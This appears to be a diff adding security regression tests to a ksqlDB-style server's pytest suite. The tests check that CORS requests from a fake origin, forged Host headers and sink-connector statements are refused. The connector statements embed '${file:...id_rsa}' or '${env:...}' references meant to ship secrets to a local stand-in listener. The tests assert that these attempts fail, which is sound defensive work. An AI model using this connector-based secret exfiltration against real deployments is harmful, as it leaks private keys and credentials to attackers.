@@ -5,10 +5,14 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
+import threading
+from base64 import b64encode
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -43,6 +47,93 @@ def sql(url: str, *arguments: str, stdin: str | None = None) -> subprocess.Compl
         check=False,
         env=os.environ | {"NO_COLOR": "1"},
     )
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[bytes]]]:
+    """A server of somebody else's, and what it was sent."""
+    got: list[bytes] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def listen() -> None:
+            while True:
+                try:
+                    client, _ = server.accept()
+                except OSError:
+                    return
+                with client:
+                    client.settimeout(150)
+                    got.append(client.recv(65536))
+                    client.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}")
+
+        thread = threading.Thread(target=listen, daemon=True)
+        thread.start()
+        yield f"http://127.0.0.1:{server.getsockname()[1]}", got
+        server.shutdown(socket.SHUT_RDWR)
+    thread.join(30)
+
+
+def stolen(place: str, to: str, name: str) -> dict[str, str]:
+    options = {
+        "connector.class": "elasticsearch",
+        "topics": "door",
+        "connection.url": to,
+        "connection.username": "u",
+        "connection.password": place,
+    }
+    written = ", ".join(f"'{option}' = '{value}'" for option, value in options.items())
+    return {"ksql": f"CREATE SINK CONNECTOR {name} WITH ({written});"}
+
+
+def test_no_page_and_no_statement_carries_a_file_away(
+    url: str, listener: tuple[str, list[bytes]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    to, got = listener
+    secret = tmp_path / "id_rsa"
+    secret.write_text("-----BEGIN KEY-----", encoding="utf-8")
+    monkeypatch.setenv("DOOR_SECRET", "hush")
+    page = {"origin": "https://evil.example", "content-type": "text/plain"}
+    body = json.dumps(stolen(f"${{file:{secret}}}", to, "ev"))
+    assert httpx.post(f"{url}/ksql", content=body, headers=page, timeout=150).status_code == 403
+    assert httpx.post(f"{url}/ksql", content=body, headers={"host": "evil.example"}, timeout=150).status_code == 403
+    del page["origin"]
+    assert httpx.post(f"{url}/ksql", content=body, headers=page, timeout=150).status_code == 415
+    for place, setting in ((f"${{file:{secret}}}", "secrets.folders"), ("${env:DOOR_SECRET}", "secrets.variables")):
+        refused = httpx.post(f"{url}/ksql", json=stolen(place, to, "ev"), timeout=150)
+        assert (refused.status_code, refused.json()["code"]) == (400, "SECRET_NOT_ALLOWED")
+        assert setting in refused.json()["hint"]
+        hidden = httpx.post(f"{url}/ksql", json=stolen("p", f"{to}/{place}", "ev"), timeout=150)
+        assert hidden.json()["code"] == "SECRET_NOT_ALLOWED"
+        config = {"connector.class": "elasticsearch", "topics": "door", "connection.url": f"{to}/{place}"}
+        made = httpx.put(f"{url}/connectors/ev/config", json=config, timeout=150)
+        assert made.status_code == 400
+        checked = httpx.put(
+            f"{url}/connector-plugins/elasticsearch/config/validate", json={**config, "name": "ev"}, timeout=150
+        )
+        assert "hush" not in checked.text
+        assert "BEGIN KEY" not in checked.text
+    assert got == []
+    assert not {"ev", "EV"} & set(httpx.get(f"{url}/connectors", timeout=150).json())
+
+
+def test_what_stands_in_the_data_folder_s_secrets_is_used(
+    url: str, orion: Orion, listener: tuple[str, list[bytes]]
+) -> None:
+    """The same statement with a file that may be read reaches the other side, which shows that the listener hears."""
+    to, got = listener
+    folder = orion.engine.config.data / "secrets"
+    folder.mkdir(exist_ok=True)
+    (folder / "search").write_text("hush", encoding="utf-8")
+    httpx.post(f"{url}/ksql", json=stolen("${file:search}", to, "kept"), timeout=150)
+    assert any(b"Basic " + b64encode(b"u:hush") in one for one in got)
+    httpx.post(f"{url}/ksql", json={"ksql": "DROP CONNECTOR IF EXISTS kept;"}, timeout=150)
+
+
+def test_rows_are_no_other_site_s(url: str) -> None:
+    asked = quote(json.dumps({"ksql": "SELECT * FROM door;"}))
+    for headers in ({"origin": "https://evil.example"}, {"host": "evil.example"}):
+        for path in ("/info", "/healthcheck", "/topics", "/connectors", f"/ws/query?request={asked}"):
+            assert httpx.get(f"{url}{path}", headers=headers, timeout=150).status_code == 403
 
 
 def test_info_and_health(url: str) -> None:
@@ -131,6 +222,19 @@ def test_sql_errors_have_a_caret_a_hint_and_an_exit_code(url: str) -> None:
     ]
     assert sql(url, "-e", "TERMINATE nobody;").returncode == 3
     assert sql("http://127.0.0.1:9", "-e", "SHOW TOPICS;").returncode == 69
+
+
+def test_constants_and_the_statement_behind_a_stream(url: str) -> None:
+    ran = sql(url, "-e", "SELECT 1; SELECT UCASE('a') AS big, TRANSFORM(ARRAY[1, 2], x => x + 1) AS more;")
+    assert ran.stdout.splitlines() == ["KSQL_COL_0", "1", "BIG\tMORE", "A\t[2, 3]"], ran.stderr
+    ran = sql(url, "-e", "SHOW CREATE STREAM door;")
+    assert ran.stdout.strip() == MUSIC.strip().splitlines()[0]
+
+
+def test_rows_of_a_stream_as_csv(url: str, tmp_path: Path) -> None:
+    ran = sql(url, "-o", str(tmp_path / "x.csv"), "-e", "SELECT k, v FROM door LIMIT 2;")
+    assert (ran.returncode, ran.stdout) == (0, ""), ran.stderr
+    assert (tmp_path / "x.csv").read_text() == "K,V\na,1\nb,2\n"
 
 
 def test_print_shows_records_as_they_are(url: str) -> None:
